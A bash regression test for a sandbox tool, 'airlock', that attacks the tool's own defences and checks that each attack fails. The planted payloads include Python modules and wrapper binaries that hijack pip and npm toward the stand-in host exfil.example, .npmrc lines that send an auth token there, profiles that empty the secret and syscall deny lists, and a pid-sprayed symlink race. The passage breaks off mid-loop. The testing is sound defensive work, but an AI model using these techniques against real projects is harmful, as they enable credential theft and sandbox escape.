#!/usr/bin/env bash
# ctest-labels: sanitize
# The project is hostile input (issue #17): every shipped profile lets a step
# write the project, so from the second step on everything in it is the
# attacker's. Each scenario below is an attack in two steps, as root and as
# uid 65534:
#   step 1: a sandboxed command (`airlock run --profile P`, P a shipped
#           profile) plants something in the project;
#   step 2: a later airlock invocation must be unaffected, and each check
#           asserts that the attack failed for the right reason (the refusal
#           named, the exit status) while the legitimate half still works.
# Scenarios:
#   1. helpers: @pip-indexes / @npm-registries never run project code or
#      take the project's configuration (json.py, sitecustomize.py, a pip
#      package, .python-version, .npmrc, node_modules/.bin/npm, bin/python3,
#      PYTHONPATH and NODE_OPTIONS pointing into the project);
#   2. a planted profile never replaces the one named (./.airlock/NAME.toml,
#      a profile file in the project, `extends` of a profile named by path,
#      a trusted project's profile changed, added to or symlinked away);
#   3. planted policy sets never empty the built-in ones (project policies
#      are ignored, a user-level redefinition is an error, `add` works);
#   4. supervisor writes (--report, audit -o) never follow a planted
#      symbolic link (sprayed temporary names, the target, its directory)
#      or write through a hard link;
#   5. the token phase (npm-ci) refuses a project .npmrc that adds a
#      registry, an auth entry or a program, naming file and line;
#   6. airlock's own configuration (~/.config/airlock) is not writable
#      inside a sandbox, audit included.
# shellcheck disable=SC2016 # single-quoted scripts are expanded by the sh inside the sandbox
# shellcheck source=lib.sh
source "$(dirname "$0")/lib.sh"

doctor=$(cd "$SCRATCH" && "$AIRLOCK" doctor 2>/dev/null)
grep -q '^ok   user namespaces' <<<"$doctor" || skip "user namespaces are not available"
grep -q '^ok   landlock' <<<"$doctor" || skip "Landlock is not available"
HAVE_AUDIT=0
grep -qw user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null && HAVE_AUDIT=1
HAVE_PIP=0
/usr/bin/python3 -c 'import pip' 2>/dev/null && HAVE_PIP=1
HOST_NPM=$(PATH=/usr/bin:/bin command -v npm)
if ! PATH=/usr/bin:/bin command -v node >/dev/null; then HOST_NPM=""; fi
BASE_PATH=/usr/bin:/bin
SECRET=planted-ssh-key  # in $FAKE_HOME/.ssh/id_rsa (make_fixture)
NOTES=0
note() { NOTES=$((NOTES + 1)); printf 'note %s\n' "$*"; }

# expect_rc WHAT EXPECTED: the last al's exit status, its stderr shown on failure.
expect_rc() {
  if [[ $RC == "$2" ]]; then pass "$1"; else fail "$1: expected exit $2, got $RC; stderr: $ERR"; fi
}
expect_symlink_refusal() {
  if grep -qiE 'symbolic link|symlink' <<<"$2"; then pass "$1"; else fail "$1: no word of a symbolic link in: $2"; fi
}
# expect_true WHAT CMD...: CMD succeeds.
expect_true() {
  local what=$1
  shift
  if "$@"; then pass "$what"; else fail "$what"; fi
}
# shellcheck disable=SC2317 # called through expect_true
is_json() { /usr/bin/python3 -m json.tool "$1" >/dev/null 2>&1; }
own() { [[ $WHO == root ]] || chown -R "$NOBODY:$NOBODY" "$@"; }

# al [NAME=VALUE...] -- ARGS...: `airlock ARGS` as $WHO in $PROJECT (as_step).
al() {
  local vars=()
  while [[ $1 != -- ]]; do vars+=("$1"); shift; done
  as_step 60 "$PROJECT" "${vars[@]}" -- "$AIRLOCK" "${@:2}"
}

# step LABEL PROFILE SCRIPT [ARG...]: step 1, `sh -c SCRIPT step ARG...`
# sandboxed under PROFILE in the project. When the sandbox does not let it
# write (a stricter fix), that is said and the files are planted from
# outside, as a cloned repository would carry them, so that step 2 still
# meets them.
step() {
  local label=$1 profile=$2 script=$3
  shift 3
  al -- -q run --profile "$profile" -- sh -c "$script" step "$@"
  if [[ $RC == 0 ]]; then
    pass "$WHO: step 1 under $profile: $label"
    return
  fi
  note "$WHO: step 1 under $profile could not $label (exit $RC: $ERR); planted from outside the sandbox instead"
  (cd "$PROJECT" && as_user "$WHO" sh -c "$script" step "$@") ||
    fail "$WHO: planting from outside failed too: $label"
}
# plant LABEL PROFILE FILE CONTENT [FILE CONTENT...]: step 1 writes each
# FILE (relative to the project) with CONTENT and a final newline.
plant() {
  local label=$1 profile=$2
  shift 2
  step "$label" "$profile" \
    'while [ $# -gt 0 ]; do mkdir -p "$(dirname "$1")" && printf "%s\n" "$2" > "$1" || exit 1; shift 2; done' "$@"
}

new_project() {
  PROJECT="$SCRATCH/$WHO/$1"
  mkdir -p "$PROJECT/src"
  echo 'int main(void) { return 0; }' > "$PROJECT/src/main.c"
  own "$PROJECT"
}

# A profile outside the project under which the home directory is readable,
# so that only @secret-files stands between the command and the keys.
write_home_read_profile() {
  cat > "$SCRATCH/$WHO/home-read.toml" <<'EOF'
[profile]
description = "default, with the home directory readable: only @secret-files hides the keys"
extends = ["default"]

[filesystem]
read = ["${home}"]
EOF
  chmod 644 "$SCRATCH/$WHO/home-read.toml"
}

# --- planted files ----------------------------------------------------------
# Every piece of planted code leaves a marker in @MARKS@ when it runs, and
# also steers the helper toward exfil.example, so that it is seen even where
# it could not write its marker.
read -r -d '' JSON_PY <<'EOF'
# Planted by a build step: imported by any python started in the project.
import os, sys
try:
    open("@MARKS@/json.py", "w").write("ran\n")
except OSError:
    pass
os.environ["PIP_EXTRA_INDEX_URL"] = "http://exfil.example:81/simple"
# Then become the real json module, so that the caller notices nothing.
import importlib.util, sysconfig
_dir = os.path.join(sysconfig.get_paths()["stdlib"], "json")
_spec = importlib.util.spec_from_file_location("json", os.path.join(_dir, "__init__.py"),
                                               submodule_search_locations=[_dir])
_real = importlib.util.module_from_spec(_spec)
sys.modules["json"] = _real
_spec.loader.exec_module(_real)
EOF
read -r -d '' PIP_INIT_PY <<'EOF'
# Planted by a build step: shadows pip for any python started in the project.
import os, sys
try:
    open("@MARKS@/pip-package", "w").write("ran\n")
except OSError:
    pass
os.environ["PIP_EXTRA_INDEX_URL"] = "http://exfil.example:82/simple"
# Then become the real pip, so that the caller's query still succeeds.
_here = os.path.dirname(os.path.abspath(__file__))
for _entry in sys.path:
    _real = os.path.join(os.path.abspath(_entry or "."), "pip")
    if _real != _here and os.path.isfile(os.path.join(_real, "_internal", "__init__.py")):
        __path__[:] = [_real]
        __file__ = os.path.join(_real, "__init__.py")
        exec(compile(open(__file__).read(), __file__, "exec"))
        break
EOF
read -r -d '' SITECUSTOMIZE_PY <<'EOF'
import os
try:
    open("@MARKS@/sitecustomize.py", "w").write("ran\n")
except OSError:
    pass
os.environ["PIP_EXTRA_INDEX_URL"] = "http://exfil.example:83/simple"
EOF
read -r -d '' EVIL_JS <<'EOF'
try { require("fs").writeFileSync("@MARKS@/evil.js", "ran\n"); } catch (e) {}
process.env.npm_config_registry = "http://exfil.example:84/";
EOF
read -r -d '' FAKE_NPM <<'EOF'
#!/bin/sh
touch @MARKS@/node_modules-bin-npm 2>/dev/null
npm_config_registry=http://exfil.example:85/ exec @NPM@ "$@"
EOF
read -r -d '' FAKE_PYTHON3 <<'EOF'
#!/bin/sh
touch @MARKS@/bin-python3 2>/dev/null
PIP_EXTRA_INDEX_URL=http://exfil.example:86/simple exec /usr/bin/python3 "$@"
EOF
# A profile that gives a step everything: the home directory, the host's
# network. Planted under a shipped profile's name, or next to the project.
read -r -d '' PLANTED_PROFILE <<'EOF'
[profile]
description = "planted by a build step: home readable, host network"

[filesystem]
read = ["/"]
write = ["${project}", "/tmp"]
exec = ["/"]

[network]
mode = "host"
EOF
read -r -d '' EMPTY_SECRET_FILES <<'EOF'
[sets.secret-files]
kind = "paths"
description = "planted: nothing is secret"
entries = []
EOF
read -r -d '' EMPTY_DEFAULT_DENY <<'EOF'
[sets.default-deny]
kind = "syscalls"
description = "planted: every system call allowed"
entries = []
EOF
# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0): in @keyring,
# so in @default-deny; "EPERM" when the filter refuses it.
KEYCTL_PROBE='import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.syscall(250, 0, -3, 0)
print("keyctl", "ok" if r >= 0 else "errno=" + {1: "EPERM"}.get(ctypes.get_errno(), str(ctypes.get_errno())))'

# --- 1. helpers never run in the project ---------------------------------------
# subst TEXT: TEXT with @MARKS@ and @NPM@ filled in.
subst() { local t=${1//@MARKS@/$MARKS}; printf '%s' "${t//@NPM@/$HOST_NPM}"; }
# expect_no_markers WHAT: no planted code ran (and the markers are cleared).
expect_no_markers() {
  local ran
  ran=$(cd "$MARKS" && ls -A)
  if [[ -z $ran ]]; then pass "$1: no planted code ran"; else fail "$1: planted code ran on the host: $ran"; fi
  rm -f "$MARKS"/* "$MARKS"/.[!.]* 2>/dev/null
}
# check_helper_explain WHAT PROFILE: after an `al -- explain --profile PROFILE`.
check_helper_explain() {
  local what=$1 profile=$2
  expect_no_markers "$what"
  expect_not_contains "$what: the resolved policy names no planted destination" "$OUT" "exfil.example"
  if [[ $profile == pip-install ]]; then
    if [[ $HAVE_PIP == 1 ]]; then
      expect_rc "$what: explain succeeds" 0
      expect_contains "$what: the user's pip.conf index is allowed" "$OUT" "127.0.0.1:3141"
    else
      expect_rc "$what: explain refuses (no pip on the host)" 125
      expect_contains "$what: the refusal names pip" "$ERR" "pip"
    fi
  elif [[ $RC == 0 ]]; then
    pass "$what: explain succeeds"
    expect_contains "$what: the user's ~/.npmrc registry is allowed" "$OUT" "127.0.0.1:4873"
  elif [[ $RC == 125 && $ERR == *".npmrc"* ]]; then
    pass "$what: explain refuses the project's .npmrc, naming it"
  else
    fail "$what: explain exited $RC: $ERR"
  fi
}

scenario_helpers() {
  new_project helpers
  MARKS="$SCRATCH/$WHO/marks"
  mkdir -p "$MARKS"
  chmod 777 "$MARKS"
  own "$MARKS"
  plant "plant json.py, sitecustomize.py, pip/, .python-version, .npmrc, evil.js, bin/python3, node_modules/.bin/npm" \
    ci-step \
    json.py "$(subst "$JSON_PY")" \
    sitecustomize.py "$(subst "$SITECUSTOMIZE_PY")" \
    pip/__init__.py "$(subst "$PIP_INIT_PY")" \
    .python-version "../../../../../..$PROJECT/venv" \
    .npmrc "registry=http://exfil.example:80/" \
    evil.js "$(subst "$EVIL_JS")" \
    bin/python3 "$(subst "$FAKE_PYTHON3")" \
    node_modules/.bin/npm "$(subst "$FAKE_NPM")"
  step "make the planted programs executable" ci-step 'chmod 755 bin/python3 node_modules/.bin/npm'
  [[ -x $PROJECT/bin/python3 && -s $PROJECT/json.py ]] || fail "$WHO helpers: the planted files are not there"

  # The caller's environment as a developer's shell may have it after
  # `source env.sh` from the project: the project first on PATH, PYTHONPATH
  # and NODE_OPTIONS into it. The PIP_* and npm_config_* variables are the
  # caller's own and count.
  local hostile=(PATH="$PROJECT/bin:$PROJECT/node_modules/.bin:$BASE_PATH" PYTHONPATH="$PROJECT"
                 NODE_OPTIONS="--require $PROJECT/evil.js" PIP_EXTRA_INDEX_URL=http://127.0.0.1:3142/simple
                 "npm_config_@legit:registry=http://127.0.0.1:4874/")
  al -- explain --profile pip-install
  check_helper_explain "$WHO helpers: explain --profile pip-install" pip-install
  al "${hostile[@]}" -- explain --profile pip-install
  check_helper_explain "$WHO helpers: explain --profile pip-install, hostile PATH/PYTHONPATH" pip-install
  [[ $HAVE_PIP == 1 ]] &&
    expect_contains "$WHO helpers: the caller's PIP_EXTRA_INDEX_URL is allowed" "$OUT" "127.0.0.1:3142"
  if [[ -n $HOST_NPM ]]; then
    al -- explain --profile npm-ci
    check_helper_explain "$WHO helpers: explain --profile npm-ci" npm-ci
    al "${hostile[@]}" -- explain --profile npm-ci
    check_helper_explain "$WHO helpers: explain --profile npm-ci, hostile PATH/NODE_OPTIONS" npm-ci
    [[ $RC == 0 ]] &&
      expect_contains "$WHO helpers: the caller's npm_config_@legit:registry is allowed" "$OUT" "127.0.0.1:4874"
  else
    note "$WHO helpers: npm is not installed; @npm-registries not tried"
  fi
  al "${hostile[@]}" -- check pip-install npm-ci
  expect_no_markers "$WHO helpers: check pip-install npm-ci, hostile environment"
  al "${hostile[@]}" -- doctor --profile pip-install
  expect_no_markers "$WHO helpers: doctor --profile pip-install, hostile environment"
}

# --- 2. a planted profile never replaces the named one ---------------------------
# expect_builtin_ran WHAT: after `run -- sh -c 'cat src/main.c; ...'` in a
# project with planted profiles: the command ran (under the built-in), or
# the run was refused because of the untrusted files; not some other error.
expect_builtin_ran() {
  if [[ $RC != 125 && $OUT == *"int main"* ]]; then
    pass "$1: the command ran"
  elif [[ $RC == 125 && $ERR == *trust* ]]; then
    pass "$1: refused, naming trust"
  else
    fail "$1: neither ran nor was refused for the planted files (exit $RC): $ERR"
  fi
}
scenario_profiles() {
  new_project profiles
  plant "plant .airlock/{default,npm-test,ci-step}.toml and some.toml" npm-test \
    .airlock/default.toml "$PLANTED_PROFILE" \
    .airlock/npm-test.toml "$PLANTED_PROFILE" \
    .airlock/ci-step.toml "$PLANTED_PROFILE" \
    some.toml "$PLANTED_PROFILE"
  local name
  for name in npm-test default ci-step; do
    al -- -q run --profile "$name" -- sh -c 'cat src/main.c; cat "$1"' sh "$FAKE_HOME/.ssh/id_rsa"
    expect_not_contains "$WHO profiles: run --profile $name with a planted .airlock/$name.toml: the key stays hidden" \
      "$OUT$ERR" "$SECRET"
    expect_builtin_ran "$WHO profiles: run --profile $name"
  done
  al -- explain --profile npm-test
  expect_not_contains "$WHO profiles: explain --profile npm-test does not use the planted file" \
    "$OUT" "$PROJECT/.airlock/npm-test.toml"
  expect_not_contains "$WHO profiles: explain --profile npm-test has no host network" "$OUT" 'mode = "host"'

  al -- -q run --profile ./some.toml -- cat "$FAKE_HOME/.ssh/id_rsa"
  expect_rc "$WHO profiles: run --profile ./some.toml (untrusted, in the project) is refused" 125
  expect_contains "$WHO profiles: the refusal says to trust it" "$ERR" "trust"
  expect_not_contains "$WHO profiles: ./some.toml did not read the key" "$OUT" "$SECRET"

  # A profile the operator named by path, outside the project: its
  # `extends` does not resolve from the project either.
  printf '[profile]\ndescription = "named by path"\nextends = ["npm-test"]\n' > "$SCRATCH/$WHO/outside.toml"
  chmod 644 "$SCRATCH/$WHO/outside.toml"
  al -- -q run --profile "$SCRATCH/$WHO/outside.toml" -- sh -c 'cat src/main.c; cat "$1"' sh "$FAKE_HOME/.ssh/id_rsa"
  expect_not_contains "$WHO profiles: a profile named by path extends the built-in npm-test, not the planted one" \
    "$OUT$ERR" "$SECRET"
  expect_builtin_ran "$WHO profiles: run --profile outside.toml"
  al -- explain --profile "$SCRATCH/$WHO/outside.toml"
  expect_not_contains "$WHO profiles: explain of a profile named by path does not use the planted file" \
    "$OUT" "$PROJECT/.airlock/npm-test.toml"

  # The legitimate half: a project profile the operator trusted.
  new_project trusted
  mkdir -p "$PROJECT/.airlock"
  printf '[profile]\ndescription = "the project'"'"'s own"\nextends = ["default"]\n\n[environment]\nset = { TRUSTED_MARK = "original" }\n' \
    > "$PROJECT/.airlock/x.toml"
  own "$PROJECT"
  al -- trust
  expect_rc "$WHO trust: airlock trust succeeds" 0
  expect_contains "$WHO trust: its output names the file" "$OUT$ERR" "x.toml"
  al -- trust --list
  expect_rc "$WHO trust: airlock trust --list succeeds" 0
  expect_contains "$WHO trust: --list names the file" "$OUT$ERR" "x.toml"
  al -- -q run --profile x -- sh -c 'echo "mark=$TRUSTED_MARK"'
  expect_rc "$WHO trust: the trusted project profile runs" 0
  expect_eq "$WHO trust: and it is the project's profile" "mark=original" "$OUT"

  plant "change the trusted .airlock/x.toml" default .airlock/x.toml \
    "$(printf '[profile]\nextends = ["default"]\n\n[filesystem]\nread = ["${home}"]\nhide = ["!@secret-files"]\n\n[environment]\nset = { TRUSTED_MARK = "tampered" }\n')"
  al -- -q run --profile x -- sh -c 'echo "mark=$TRUSTED_MARK"; cat "$1"' sh "$FAKE_HOME/.ssh/id_rsa"
  expect_rc "$WHO trust: the changed x.toml is refused" 125
  expect_contains "$WHO trust: the refusal says to run airlock trust" "$ERR" "airlock trust"
  expect_contains "$WHO trust: the refusal names the changed file" "$ERR" "x.toml"
  expect_not_contains "$WHO trust: the changed profile did not run" "$OUT" "tampered"
  expect_not_contains "$WHO trust: the key was not read" "$OUT" "$SECRET"

  # Trusted again by the operator (the change was reviewed), then a new file.
  printf '[profile]\nextends = ["default"]\n\n[environment]\nset = { TRUSTED_MARK = "reviewed" }\n' \
    > "$PROJECT/.airlock/x.toml"
  own "$PROJECT"
  al -- trust
  al -- -q run --profile x -- sh -c 'echo "mark=$TRUSTED_MARK"'
  expect_eq "$WHO trust: re-trusted, the reviewed profile runs" "0 mark=reviewed" "$RC $OUT"
  plant "add .airlock/policies/y.toml" default .airlock/policies/y.toml \
    "$(printf '[sets.extra-files]\nkind = "paths"\nentries = ["?/no/such/airlock-extra"]\n')"
  al -- -q run --profile x -- sh -c 'echo "mark=$TRUSTED_MARK"'
  expect_rc "$WHO trust: a new, untrusted policy file is refused" 125
  expect_contains "$WHO trust: the refusal says to run airlock trust" "$ERR" "airlock trust"
  expect_contains "$WHO trust: the refusal names the new file" "$ERR" "y.toml"

  # Trusted again, then .airlock itself is replaced by a symbolic link.
  al -- trust
  al -- -q run --profile x -- true
  expect_rc "$WHO trust: re-trusted with the new policy file, runs" 0
  step "replace .airlock with a symbolic link to other content" default \
    'mkdir -p elsewhere && printf "%s\n" "$1" > elsewhere/x.toml && mv .airlock .airlock.orig && ln -s elsewhere .airlock' \
    "$PLANTED_PROFILE"
  al -- -q run --profile x -- cat "$FAKE_HOME/.ssh/id_rsa"
  expect_rc "$WHO trust: a symlinked .airlock is refused" 125
  expect_not_contains "$WHO trust: the symlinked profile did not read the key" "$OUT" "$SECRET"
}

# --- 3. planted policy sets never weaken the built-in ones -------------------------
scenario_sets() {
  new_project sets
  write_home_read_profile
  echo "visible-note" > "$FAKE_HOME/notes.txt"
  own "$FAKE_HOME/notes.txt"
  local probe_home=(sh -c 'cat "$1/notes.txt"; cat "$1/.ssh/id_rsa"' sh "$FAKE_HOME")
  al -- -q run --profile "$SCRATCH/$WHO/home-read.toml" -- "${probe_home[@]}"
  expect_contains "$WHO sets: control: the home directory is readable under home-read.toml" "$OUT" "visible-note"
  expect_not_contains "$WHO sets: control: the key is hidden by @secret-files" "$OUT" "$SECRET"
  al -- -q run -- python3 -c "$KEYCTL_PROBE"
  expect_eq "$WHO sets: control: keyctl is refused under default" "keyctl errno=EPERM" "$OUT"

  plant "plant .airlock/policies emptying secret-files and default-deny" default \
    .airlock/policies/x.toml "$EMPTY_SECRET_FILES" \
    .airlock/policies/y.toml "$EMPTY_DEFAULT_DENY"
  al -- -q run -- sh -c 'cat src/main.c; cat "$1"' sh "$FAKE_HOME/.ssh/id_rsa"
  expect_not_contains "$WHO sets: default: the key stays hidden" "$OUT$ERR" "$SECRET"
  expect_contains "$WHO sets: default: the command ran" "$OUT" "int main"
  al -- -q run --profile "$SCRATCH/$WHO/home-read.toml" -- "${probe_home[@]}"
  expect_contains "$WHO sets: home-read.toml by path still runs" "$OUT" "visible-note"
  expect_not_contains "$WHO sets: home-read.toml by path: the key stays hidden" "$OUT" "$SECRET"
  al -- -q run -- python3 -c "$KEYCTL_PROBE"
  expect_eq "$WHO sets: default: keyctl still refused (@default-deny not emptied)" "keyctl errno=EPERM" "$OUT"
  if [[ $WHO == root ]]; then
    al -- -q run -- cat /etc/shadow
    expect_not_contains "$WHO sets: /etc/shadow stays hidden" "$OUT" "root:"
  fi

  # A user-level policy may add to a built-in set, never empty it.
  new_project userpolicy
  local policy="$FAKE_HOME/.config/airlock/policies/x.toml"
  mkdir -p "$(dirname "$policy")"
  printf '%s\n' "$EMPTY_SECRET_FILES" > "$policy"
  own "$FAKE_HOME/.config"
  al -- check default
  expect_rc "$WHO sets: check default with a user policy emptying secret-files fails" 125
  expect_contains "$WHO sets: check names the policy file" "$OUT$ERR" "$policy"
  expect_contains "$WHO sets: check says to use add" "$OUT$ERR" "add = ["
  al -- -q run -- true
  expect_rc "$WHO sets: run with that policy is refused" 125
  expect_contains "$WHO sets: run names the policy file" "$ERR" "$policy"
  al -- -q run --profile "$SCRATCH/$WHO/home-read.toml" -- "${probe_home[@]}"
  expect_not_contains "$WHO sets: the key is not read with that policy" "$OUT" "$SECRET"
  # Nor replace it: only a profile may, in the profile itself.
  printf '%s\nreplace = true\n' "$EMPTY_SECRET_FILES" > "$policy"
  al -- check default
  expect_rc "$WHO sets: check default with a user policy replacing secret-files (replace = true) fails" 125
  expect_contains "$WHO sets: check names the policy file" "$OUT$ERR" "$policy"
  printf '[sets.secret-files]\nadd = ["?/no/such/airlock-extra-secret"]\n' > "$policy"
  own "$policy"
  al -- check default
  expect_rc "$WHO sets: a user policy adding to secret-files checks" 0
  al -- -q run -- true
  expect_rc "$WHO sets: and runs" 0
  al -- -q run --profile "$SCRATCH/$WHO/home-read.toml" -- "${probe_home[@]}"
  expect_contains "$WHO sets: with add, home-read.toml runs" "$OUT" "visible-note"
  expect_not_contains "$WHO sets: with add, the key stays hidden" "$OUT" "$SECRET"
  rm -f "$policy"
}

# --- 4. supervisor writes never follow a planted link -----------------------------
scenario_writes() {
  new_project writes
  local victim="$FAKE_HOME/victim"
  reset_victim() { echo "victim-original" > "$victim"; own "$victim"; }
  reset_victim
  echo "keep-original" > "$PROJECT/keep.txt"
  own "$PROJECT/keep.txt"
  # The names a supervisor that writes FILE.tmp.<its pid> will use: the next
  # 12000 pids from the last one given out (wrapping at pid_max), far more
  # than this test and the host start before step 2. (A step cannot see host
  # pids, but every pid is only 4 to 7 digits: a real attacker sprays them all.)
  step "spray report.json.tmp.N and gen.toml.tmp.N, r2.json and gen.toml -> victim, out -> home, r3.json = keep.txt" \
    default \
    'python3 -c "
import os, sys
victim, last, pid_max = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
for n in range(last + 1, last + 12001):
    pid = n if n < pid_max else 300 + n - pid_max
    for name in (\"report.json.tmp.%d\" % pid, \"gen.toml.tmp.%d\" % pid):
        if not os.path.lexists(name):
            os.symlink(victim, name)
" "$1" "$2" "$3" && ln -s "$1" r2.json && ln -s "$1" gen.toml && ln -s "$4" out && ln keep.txt r3.json' \
    "$victim" "$(cat /proc/sys/kernel/ns_last_pid)" "$(cat /proc/sys/kernel/pid_max)" "$FAKE_HOME"

  al -- -q run --report "$PROJECT/report.json" -- true
  expect_rc "$WHO writes: run --report into a sprayed project succeeds" 0
  expect_eq "$WHO writes: the victim is unchanged" "victim-original" "$(cat "$victim")"
  expect_true "$WHO writes: report.json is a regular file, not a link" test -f "$PROJECT/report.json" -a ! -L "$PROJECT/report.json"
  expect_true "$WHO writes: report.json is JSON" is_json "$PROJECT/report.json"

  reset_victim
  al -- -q run --report "$PROJECT/r2.json" -- sh -c 'echo ran > ran-r2'
  expect_rc "$WHO writes: --report to a planted symbolic link is refused" 125
  expect_symlink_refusal "$WHO writes: the refusal says it is a symbolic link" "$ERR"
  expect_eq "$WHO writes: the victim is unchanged" "victim-original" "$(cat "$victim")"
  expect_true "$WHO writes: refused before the command ran" test ! -e "$PROJECT/ran-r2"

  al -- -q run --report "$PROJECT/out/r.json" -- true
  expect_rc "$WHO writes: --report into a directory that is a planted symbolic link is refused" 125
  expect_symlink_refusal "$WHO writes: the refusal says it is a symbolic link" "$ERR"
  expect_true "$WHO writes: nothing was written in the home directory through out -> home" test ! -e "$FAKE_HOME/r.json"

  if [[ $HAVE_AUDIT == 1 ]]; then
    reset_victim
    al -- -q audit -o "$PROJECT/gen.toml" -- true
    expect_rc "$WHO writes: audit -o to a planted symbolic link is refused" 125
    expect_symlink_refusal "$WHO writes: the refusal says it is a symbolic link" "$ERR"
    expect_eq "$WHO writes: the victim is unchanged by the audit" "victim-original" "$(cat "$victim")"
  else
    note "$WHO writes: no seccomp user notification; audit -o not tried"
  fi

  al -- -q run --report "$PROJECT/r3.json" -- true
  expect_rc "$WHO writes: --report to a hard link succeeds" 0
  expect_eq "$WHO writes: the hard link's other name is unchanged" "keep-original" "$(cat "$PROJECT/keep.txt")"
  expect_true "$WHO writes: r3.json is JSON" is_json "$PROJECT/r3.json"
}

# --- 5. the token phase takes no orders from the project ---------------------------
scenario_token() {
  new_project token
  local token line
  token="npm_$(head -c 18 /dev/urandom | od -An -tx1 | tr -d ' \n')"
  # shellcheck disable=SC2016 # ${NPM_TOKEN} is npm's, not this shell's
  for line in 'registry=http://exfil.example/' '@evil:registry=http://exfil.example/' \
              '//exfil.example/:_authToken=${NPM_TOKEN}' 'git=./tools/git' 'script-shell=./x.sh'; do
    plant "write a project .npmrc with $line" npm-test .npmrc "$(printf '# project settings\nfund=false\n%s' "$line")"
    al NPM_TOKEN="$token" -- -q run --profile npm-ci -- sh -c 'echo ran > ran-npm-ci'
    expect_rc "$WHO token: npm-ci refuses a project .npmrc with $line" 125
    expect_contains "$WHO token: the refusal names .npmrc and the line ($line)" "$ERR" ".npmrc:3"
    expect_true "$WHO token: nothing ran ($line)" test ! -e "$PROJECT/ran-npm-ci"
    rm -f "$PROJECT/ran-npm-ci"
  done
  plant "write a harmless project .npmrc" npm-test .npmrc "fund=false"
  al NPM_TOKEN="$token" -- -q run --profile npm-ci -- true
  expect_rc "$WHO token: a harmless project .npmrc (fund=false) is accepted" 0
}

# --- 6. airlock's own configuration is never writable inside -----------------------
scenario_config() {
  new_project config
  local conf="$FAKE_HOME/.config/airlock"
  mkdir -p "$conf/profiles" "$conf/policies" "$FAKE_HOME/work" "$PROJECT/.airlock"
  printf '[profile]\nextends = ["default"]\n' > "$conf/profiles/keep.toml"
  printf '[profile]\nextends = ["default"]\n\n[environment]\nset = { TRUSTED = "yes" }\n' > "$PROJECT/.airlock/t.toml"
  own "$FAKE_HOME/.config" "$FAKE_HOME/work" "$PROJECT"
  # The trust record: whatever `airlock trust` writes in the home directory.
  touch "$SCRATCH/$WHO/stamp"
  al -- trust
  mapfile -t RECORDS < <(find "$FAKE_HOME" -type f -newer "$SCRATCH/$WHO/stamp")
  [[ ${#RECORDS[@]} -gt 0 ]] || note "$WHO config: airlock trust wrote nothing in the home directory; its record not attacked"
  RECORD_SUMS=$(cd / && sha256sum "${RECORDS[@]}" 2>&1)
  local i
  for i in "${!RECORDS[@]}"; do cp -p "${RECORDS[$i]}" "$SCRATCH/$WHO/record.$i"; done
  # Landlock cannot grant the home directory itself while it holds a hidden
  # path (airlock grants its entries one by one), so the legitimate write
  # goes to a directory in it: ~/work.
  cat > "$SCRATCH/$WHO/wide.toml" <<'EOF'
[profile]
description = "default with the whole home directory writable"
extends = ["default"]

[filesystem]
read = ["${home}"]
write = ["${home}"]
EOF
  chmod 644 "$SCRATCH/$WHO/wide.toml"
  # Write into it, delete from it, and move it (or its parent) away to
  # put another in its place.
  local attack='
    touch "$1/.config/airlock/profiles/evil.toml"; echo "profiles rc=$?"
    touch "$1/.config/airlock/policies/evil.toml"; echo "policies rc=$?"
    for d in "$1"/.config/airlock/*/; do touch "${d}evil"; done
    rm -f "$1/.config/airlock/profiles/keep.toml"
    mv "$1/.config/airlock" "$1/.config/airlock.moved" && mkdir -p "$1/.config/airlock/profiles" &&
      touch "$1/.config/airlock/profiles/evil.toml"
    mv "$1/.config" "$1/.config.moved" && mkdir -p "$1/.config/airlock/profiles" &&
      touch "$1/.config/airlock/profiles/evil.toml"
    echo other > "$1/work/other" && echo other-written
    shift
    for record in "$@"; do echo evil >> "$record"; rm -f "$record"; done'
  al -- run --profile "$SCRATCH/$WHO/wide.toml" -- sh -c "$attack" sh "$FAKE_HOME" "${RECORDS[@]}"
  check_config "$WHO config: run"
  if [[ $HAVE_AUDIT == 1 ]]; then
    al -- audit -o "$SCRATCH/$WHO/g.toml" -- sh -c "$attack" sh "$FAKE_HOME" "${RECORDS[@]}"
    check_config "$WHO config: audit"
    expect_true "$WHO config: the audit wrote its profile" test -s "$SCRATCH/$WHO/g.toml"
  else
    note "$WHO config: no seccomp user notification; audit not tried"
  fi
}
check_config() {
  local what=$1 conf="$FAKE_HOME/.config/airlock"
  expect_eq "$what: no file was created in ~/.config/airlock (profiles, policies, the trust record)" "" \
    "$(find "$conf" "$FAKE_HOME/.config.moved" -name 'evil*' 2>/dev/null)"
  expect_true "$what: the user's profile was not removed" test -e "$conf/profiles/keep.toml"
  expect_true "$what: ~/.config/airlock was not moved away" \
    test ! -e "$conf.moved" -a ! -e "$FAKE_HOME/.config.moved/airlock.moved"
  expect_true "$what: ~/.config was not moved away" test ! -e "$FAKE_HOME/.config.moved"
  if grep -qE 'profiles rc=[1-9]' <<<"$OUT" && grep -qE 'Read-only file system|Permission denied' <<<"$OUT$ERR"; then
    pass "$what: the write failed with EROFS or EACCES"
  else
    fail "$what: the write did not fail with EROFS or EACCES: $OUT $ERR"
  fi
  expect_contains "$what: the rest of the home directory is writable" "$OUT" "other-written"
  expect_eq "$what: ~/work/other written" "other" "$(cat "$FAKE_HOME/work/other" 2>/dev/null)"
  if [[ ${#RECORDS[@]} -gt 0 ]]; then
    expect_eq "$what: the trust record is unchanged" "$RECORD_SUMS" "$(cd / && sha256sum "${RECORDS[@]}" 2>&1)"
    al -- -q run --profile t -- sh -c 'echo "trusted=$TRUSTED"'
    expect_eq "$what: the trusted project profile still runs" "0 trusted=yes" "$RC $OUT"
  fi
  # Undo whatever got through, for the next attempt.
  if [[ -e $FAKE_HOME/.config.moved ]]; then rm -rf "$FAKE_HOME/.config"; mv "$FAKE_HOME/.config.moved" "$FAKE_HOME/.config"; fi
  if [[ -e $conf.moved ]]; then rm -rf "$conf"; mv "$conf.moved" "$conf"; fi
  find "$conf" -name 'evil*' -delete
  local i
  for i in "${!RECORDS[@]}"; do
    mkdir -p "$(dirname "${RECORDS[$i]}")" && cp -p "$SCRATCH/$WHO/record.$i" "${RECORDS[$i]}"
  done
  rm -f "$FAKE_HOME/work/other"
  printf '[profile]\nextends = ["default"]\n' > "$conf/profiles/keep.toml"
  own "$FAKE_HOME/.config"
}

for WHO in root nobody; do
  make_fixture "$WHO"
  # The user's own tool configuration (the legitimate source of indexes and
